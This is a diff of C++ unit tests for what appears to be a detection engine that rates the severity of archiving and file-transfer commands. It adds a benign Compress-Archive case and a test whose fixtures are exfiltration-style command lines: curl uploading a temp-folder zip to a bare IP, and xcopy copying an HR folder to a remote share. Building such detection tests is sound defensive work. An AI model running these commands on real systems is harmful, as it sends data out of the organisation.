@@ -210,6 +210,8 @@ TEST(PackingInnocent, WhatAdministratorsAndOfficesPack) {
         "7z a -pX D:\\logs\\srv01_evtx.7z C:\\Windows\\System32\\winevt\\Logs",
         "7z a -mx9 -v700m E:\\bk\\sysvol.7z C:\\Windows\\SYSVOL\\domain",
         "7z a -v1g E:\\bk\\public.7z C:\\Users\\Public\\Documents",
+        "Compress-Archive -Path \\\\fs01\\public\\manual -DestinationPath "
+        "C:\\Users\\Public\\Documents\\manual.zip",
         "7z a -tzip C:\\inetpub\\wwwroot\\download\\catalog2024.zip D:\\catalog\\*.pdf"}) {
     const auto run = judge_winrar({process_fact(at(0), "C:\\Program Files\\7-Zip\\7z.exe", line)});
     EXPECT_LE(highest(run), Severity::low) << line << fake::summary_of(run.context->findings);
@@ -226,6 +228,15 @@ TEST(PackingInnocent, EverydayUploads) {
        process_fact(at(2), "C:\\T\\rclone.exe",
                     "rclone copy C:\\Users\\Public\\Documents gdrive:share")});
   EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
+}
+
+TEST(PackingActs, AnArchiveOutOfATemporaryFolderToABareAddressIsMedium) {
+  const auto sent = [](const std::string& line) {
+    return highest(judge_facts(modules::staging, {process_fact(at(0), "C:\\T\\x.exe", line)}));
+  };
+  EXPECT_EQ(sent("curl -T C:\\Windows\\Temp\\h.zip http://203.0.113.9/u"), Severity::medium);
+  EXPECT_LE(sent("scp build.tar.gz root@198.51.100.7:/root"), Severity::low);
+  EXPECT_EQ(sent("xcopy C:\\HR \\\\203.0.113.9\\s\\ /s"), Severity::medium);
 }
 
 TEST(PackingActs, AFolderOfStagingIsAPlaceItself) {
